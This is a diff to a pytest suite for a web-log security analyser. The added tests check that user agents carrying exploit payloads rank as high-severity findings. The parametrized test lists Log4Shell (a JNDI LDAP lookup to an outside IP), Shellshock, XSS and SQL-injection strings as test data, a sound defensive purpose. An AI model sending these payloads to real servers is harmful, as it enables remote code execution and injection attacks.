@@ -92,13 +92,33 @@ def test_classify_probe(target: str, label: str) -> None:
 
 def test_unusual_user_agents(attacked: WebLog) -> None:
     ranked = security.rank_user_agents(attacked.frame())
-    assert (
-        ranked.iloc[0]["category"] == "tool" and attacked.scanner_ip in ranked.iloc[0]["evidence"]
-    )
+    # The scanner's agent names a tool *and* carries a script tag: the payload ranks first.
+    assert ranked.iloc[0]["category"] == "payload" and attacked.scanner_ip in ranked.iloc[0]["evidence"]
     scripts = ranked[ranked["category"] == "script"]
     assert scripts.iloc[0]["user_agent"] == "python-requests/2.31.0"
     finding = find_user_agents(ok(attacked.frame()), ranked)
-    assert finding.severity == "medium" and attacked.scanner_ip in finding.numbers["ips"]
+    assert finding.severity == "high" and attacked.scanner_ip in finding.numbers["ips"]
+    tool_only = attacked.frame().assign(user_agent=lambda f: f["user_agent"].str.replace(r"<script>.*", "", regex=True))
+    tools = find_user_agents(ok(tool_only), security.rank_user_agents(tool_only))
+    assert tools.severity == "medium" and tools.numbers["ips"] == [attacked.scanner_ip]
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        "${jndi:ldap://203.0.113.9:1389/a}",
+        "() { :; }; /bin/bash -c 'id'",
+        "Mozilla/5.0 <script>alert(1)</script>",
+        "x' or 1=1 --",
+    ],
+)
+def test_exploit_payload_in_a_user_agent_is_high(control: WebLog, agent: str) -> None:
+    frame = control.frame()
+    frame.loc[frame.index[:3], ["client_ip", "user_agent"]] = ["198.51.100.77", agent]
+    ranked = security.rank_user_agents(frame)
+    assert ranked.iloc[0]["category"] == "payload" and ranked.iloc[0]["user_agent"] == agent
+    finding = find_user_agents(ok(frame), ranked)
+    assert finding.severity == "high" and "198.51.100.77" in finding.numbers["ips"]
 
 
 def test_large_transfers_flag_only_the_exfiltration(attacked: WebLog) -> None:
@@ -164,9 +184,7 @@ def test_app_log_auth_failures_and_per_minute_series(attacked: WebLog) -> None:
             "logged_at": pd.date_range(attacked.start, periods=30, freq="10s", tz="UTC"),
             "level": "WARNING",
             "logger": "auth",
-            "message": [
-                f"Failed login for user{i} from 203.0.113.66 port 5{i:03d}" for i in range(25)
-            ]
+            "message": [f"Failed login for user{i} from 203.0.113.66 port 5{i:03d}" for i in range(25)]
             + ["cache warmed"] * 5,
         }
     ).astype({"level": "str", "logger": "str", "message": "str"})
@@ -192,9 +210,7 @@ def test_next_steps_name_the_ips(attacked: WebLog) -> None:
 
 
 def test_unusable_source_is_unknown() -> None:
-    down = Collected(
-        "access_log", "x", empty_frame(FRAME_SCHEMA), status="unavailable", reason="denied"
-    )
+    down = Collected("access_log", "x", empty_frame(FRAME_SCHEMA), status="unavailable", reason="denied")
     for finding in [
         find_credential_stuffing(down, security.rank_auth_failures(down.frame)),
         find_scanners(down, security.rank_scanners(down.frame)),
